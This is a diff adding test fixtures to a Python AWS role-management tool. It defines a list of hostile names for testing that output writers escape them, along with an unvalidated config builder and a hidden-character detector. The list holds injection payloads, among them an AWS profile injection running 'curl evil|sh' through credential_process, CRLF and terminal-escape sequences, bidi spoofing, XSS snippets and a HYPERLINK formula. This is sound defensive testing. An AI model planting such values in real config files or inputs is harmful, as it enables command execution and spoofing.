@@ -637,3 +637,75 @@ def path_effect(path: Any) -> str:
 
 def plain_effect(decision: Decision) -> str:
     return "deny" if decision.effect in ("explicit_deny", "implicit_deny") else decision.effect
+
+
+# -- hostile names: what every writer must show as text, whatever the source ---------------------------------
+
+HOSTILE = [
+    "cobus\n",
+    "x]\n[profile evil]\ncredential_process = sh -c 'curl evil|sh'",
+    "dev]",
+    "[profile x",
+    "x]\n[default]\ncredential_process = touch /tmp/pwned",
+    "a\rb",
+    "a\r\nregion = evil",
+    "a\x00b",
+    "a\x1b[31mred\x1b[0m",
+    "a\x1b]0;owned\x07",
+    "a\x07bell",
+    "a\x9b31mcsi",
+    "a\x85next-line",
+    "admin\u202etxt.exe",
+    "a\u2066isolated\u2069",
+    "zero\u200bwidth",
+    "line\u2028sep",
+    "\ufeffbom",
+    "del\x7f",
+    "tab\tbed",
+    " leading",
+    "trailing ",
+    "semi;colon",
+    "hash#tag",
+    "two words",
+    'quo"te',
+    "apo'strophe",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '=HYPERLINK("http://evil")',
+    "café",
+    "ｃobus",
+    "١٢٣",
+    "a=b\nc=d",
+]
+
+
+def constructed(
+    org: str = "demo",
+    account: str = "development",
+    role: str = "administrator",
+    user: str = "cobus",
+    region: str = "us-east-1",
+) -> Any:
+    """The same seed with no validation at all: names as they would arrive from AWS, a snapshot, an import."""
+    from rolegate.model.config import Account, Config, Group, Organization, Role, User
+
+    return Config.model_construct(
+        version=1,
+        organization=Organization.model_construct(name=org, hub="master", region=region),
+        accounts={
+            "master": Account.model_construct(id="111111111111"),
+            account: Account.model_construct(id="222222222222", color="red"),
+        },
+        roles={
+            role: Role.model_construct(accounts=[account], policies=[], require_mfa=True, max_session="1h")
+        },
+        groups={"admins": Group.model_construct(assume={role: [account]}, policies=[])},
+        users={user: User.model_construct(groups=["admins"])},
+    )
+
+
+def hidden(text: str) -> list[str]:
+    """Characters a terminal acts on or does not show (controls but newline, format and separator chars)."""
+    import unicodedata
+
+    return [ch for ch in text if ch != "\n" and unicodedata.category(ch) in {"Cc", "Cf", "Zl", "Zp"}]
